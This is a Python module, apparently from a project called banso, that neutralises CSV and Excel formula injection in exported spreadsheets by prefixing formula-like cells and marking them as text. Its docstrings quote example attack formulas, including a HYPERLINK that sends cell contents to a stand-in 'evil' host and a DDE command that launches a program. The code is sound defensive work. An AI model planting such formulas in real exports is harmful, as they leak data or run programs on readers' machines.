"""Spreadsheet cells that cannot attack their reader (issue 17, O1; OWASP "CSV Injection").

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (a tab or CR first hides one) as
a formula: a memo ``=HYPERLINK("http://evil/?"&A1, "詳細")`` sends the neighbouring cells away when
clicked, and ``=cmd|' /C calc'!A0`` asks to start a program. Japanese input methods type the full-width
＝＋－＠, which spreadsheets also read as formula signs. Every CSV and Excel writer of banso passes its
cells through this module:

* CSV: :func:`csv_cell` puts an apostrophe before such a text (OWASP's advice): the spreadsheet shows
  it as text; :func:`restore_cell` removes it when banso reads its own export back.
* Excel (openpyxl): :func:`excel_row` keeps the text as it is but stores it as a string cell with
  Excel's own "text" marker (``quotePrefix``), so it is neither a formula nor turned into one on edit;
  :func:`sheet_note` says so on every sheet.

Numbers stay numbers: an ``int`` or ``float`` is never touched, and neither is a text that is only a
number (``-5``, ``+3.25``, ``-1e3``), which a spreadsheet reads as that number and nothing more.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NUMBER_PATTERN = r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?"
"""A text that is only a number: a spreadsheet reads it as that number, never as a formula."""
_NUMBER = re.compile(NUMBER_PATTERN)
_LINE_ENDS = re.compile(r"(\r\n|\r|\n)")
_LAST_LINE_END = re.compile(r"(\r\n|\r|\n)$")
CSV_LINE_END = "\r\n"
"""The record separator of every CSV banso writes (RFC 4180). Why not LF: :mod:`csv` quotes a cell only for the
characters of its line terminator, so with LF a cell holding a lone CR was written bare, and a spreadsheet
ended the record there and ran the rest (``Univ\r=cmd|...``) as a formula (session 11, outside tester)."""

CSV_NOTE = ("# banso: 数式として実行されうるセルの先頭に ' を付けて無効化しました / "
            "banso: cells a spreadsheet would run as formulas start with ' in this file")
"""The note a CSV copy ends with when some of its cells were neutralised: a record of its own, its first
cell, padded with empty cells to the file's width (:func:`note_row`), so that banso's own upload check
(sealed/uploads.py, one field count per record) accepts every CSV banso writes."""

SHEET_NOTE = ("文字列のセルは数式として実行されません（=, +, -, @ で始まる文字列も文字列のまま保存）/ "
              "text cells are never run as formulas (text starting with =, +, -, @ is stored as text)")
"""The note on the first cell of every sheet banso writes (an Excel "note", shown on hover)."""


def is_formula_like(value: object) -> bool:
    """Return True when ``value`` is a text a spreadsheet would run as a formula."""
    return (isinstance(value, str) and value.startswith(FORMULA_SIGNS)
            and _NUMBER.fullmatch(value) is None)


def csv_cell(value: object) -> object:
    """Return ``value`` as a CSV writer should write it: formula-like text gains a leading apostrophe."""
    return f"'{value}" if is_formula_like(value) else value


def csv_row(values: Iterable[object]) -> list[object]:
    """Return a CSV record with every cell neutralised (see :func:`csv_cell`)."""
    return [csv_cell(v) for v in values]


def note_row(width: int) -> list[str]:
    """Return :data:`CSV_NOTE` as a record of ``width`` cells (the note first, the rest empty).

    A CSV writer writes it as the last record; a file whose rows all have ``width`` cells stays
    rectangular, so banso reads its own export back and its upload check accepts it (issue 16 F1).
    """
    return [CSV_NOTE, *([""] * (max(width, 1) - 1))]


def csv_writer(out: io.StringIO, delimiter: str = ",") -> Any:
    """Return a :mod:`csv` writer that quotes every cell holding a CR or LF (see :data:`CSV_LINE_END`)."""
    return csv.writer(out, delimiter=delimiter, lineterminator=CSV_LINE_END)


def note_line(width: int, delimiter: str = ",", lineterminator: str = CSV_LINE_END) -> str:
    """Return :func:`note_row` as one CSV line, for a file written by another writer (pyarrow, pandas)."""
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator=lineterminator).writerow(note_row(width))
    return out.getvalue()


def restore_cell(value: str) -> str:
    """Return a cell of a banso CSV export as it was before :func:`csv_cell` (for imports)."""
    return value[1:] if value.startswith("'") and is_formula_like(value[1:]) else value


CSV_DELIMITERS = ",;\t|"
"""The delimiters a CSV file may use (Excel writes ";" where "," is the decimal sign, and tab or "|")."""
_SNIFF_CHARS = 16 * 1024

CsvDialect = type[csv.Dialect] | csv.Dialect


def csv_dialect(text: str) -> CsvDialect:
    """Return the dialect of a CSV text (its delimiter among :data:`CSV_DELIMITERS`), sniffed from its start.

    The one guess both upload validation and neutralising use, so the cells checked are the cells served.
    Only the delimiter (and a space after it) is taken from the sniffer; quoting is a spreadsheet's, with
    ``"``. The sniffer is not shown ``'``: it takes it for a quote character when two neutralised cells (or
    the note) have one each, and then guesses the delimiter from counts alone, so banso's own export was
    read as other records than a spreadsheet reads (issue 16 F1).
    """
    sample = text[:_SNIFF_CHARS]
    if len(text) > len(sample) and "\n" in sample:
        sample = sample[: sample.rindex("\n")]  # a cut row would confuse the sniffer
    try:
        # CRLF as LF: the sniffer's quote patterns end a record at "\n" only, so with Excel's (and RFC 4180's)
        # CRLF a quoted last cell made it take the CR for the delimiter and read every row as one field.
        sniffed = csv.Sniffer().sniff(sample.replace("'", "_").replace("\r\n", "\n"), delimiters=CSV_DELIMITERS)
    except csv.Error:
        return csv.excel  # a single column has no delimiter to sniff

    class Sniffed(csv.excel):
        delimiter = str(sniffed.delimiter)
        skipinitialspace = bool(sniffed.skipinitialspace)

    return Sniffed


def allow_fields_of(text: str) -> None:
    """Let :mod:`csv` read any field of ``text`` (its default limit is 131,072 characters).

    The limit is process-wide; it is only ever raised, so a parse running at the same time never sees it
    drop under its own text's length.
    """
    if csv.field_size_limit() < len(text):
        csv.field_size_limit(len(text))


def neutralise_csv_text(text: str) -> tuple[str, int]:
    """Return a CSV text whose formula-like cells are neutralised, and how many were.

    A text with none is returned unchanged, byte for byte; otherwise it is written again (its own
    delimiter, RFC 4180 quoting and CRLF line ends) and ends with :func:`note_row`, so its reader knows why
    cells start with '. The note goes last, not first, so the header stays the first row for the programs
    reading it. A text :mod:`csv` cannot parse is neutralised line by line instead, never passed through.
    """
    dialect = csv_dialect(text)
    allow_fields_of(text)
    try:
        rows = list(csv.reader(io.StringIO(text), dialect))
    except csv.Error:  # a spreadsheet may still split it into cells: every field start is neutralised
        return _neutralise_lines(text, str(dialect.delimiter))
    changed = sum(1 for row in rows for cell in row if is_formula_like(cell))
    if not changed:
        return text, 0
    out = io.StringIO()
    # Written as RFC 4180 with the file's own delimiter: the sniffed quoting may not be able to write a cell.
    writer = csv_writer(out, delimiter=str(dialect.delimiter))
    writer.writerows(csv_row(row) for row in rows)
    writer.writerow(note_row(next((len(row) for row in rows if row), 1)))  # the width the upload check holds
    return out.getvalue(), changed


def _neutralise_lines(text: str, delimiter: str) -> tuple[str, int]:
    """Neutralise every field start of a text :mod:`csv` could not parse: each line's start and each
    character after ``delimiter`` (a quote first is kept in front); see :func:`neutralise_csv_text`."""
    changed = 0

    def field(value: str) -> str:
        nonlocal changed
        quote = '"' if value.startswith('"') else ""
        if not is_formula_like(value[len(quote):]):
            return value
        changed += 1
        return f"{quote}'{value[len(quote):]}"

    # Line ends kept as they were: a lone CR ends a line for a spreadsheet too.
    parts = _LINE_ENDS.split(text)
    parts[::2] = [delimiter.join(field(v) for v in line.split(delimiter)) for line in parts[::2]]
    if not changed:
        return text, 0
    neutral = "".join(parts)
    separator = "" if neutral.endswith(("\n", "\r")) else "\n"
    width = next((line.count(delimiter) + 1 for line in parts[::2] if line), 1)
    ending = found.group(0) if (found := _LAST_LINE_END.search(neutral)) else CSV_LINE_END  # the file's own
    return f"{neutral}{separator}{note_line(width, delimiter, ending)}", changed


def neutralise_csv_data(data: bytes) -> bytes:
    """Return a stored CSV file as it may be served: formula-like cells neutralised (see
    :func:`neutralise_csv_text`); a file that is not UTF-8 or has no such cell is returned as it is."""
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        return data
    neutral, changed = neutralise_csv_text(text)
    return neutral.encode() if changed else data


def excel_row(ws: Any, values: Sequence[object]) -> None:
    """Append ``values`` to the openpyxl worksheet ``ws``; formula-like text stays text (no formula)."""
    ws.append(list(values))
    for cell in ws[ws.max_row]:
        if is_formula_like(cell.value):
            cell.data_type = "s"  # openpyxl made a formula of a str starting with "="
            cell.quotePrefix = True  # Excel's "this is text" marker: editing the cell keeps it text


def sheet_note(ws: Any, *lines: str) -> None:
    """Attach :data:`SHEET_NOTE` (and ``lines``) as the Excel note of the sheet's first cell."""
    from openpyxl.comments import Comment

    ws["A1"].comment = Comment("\n".join((SHEET_NOTE, *lines)), "banso", width=400, height=120)
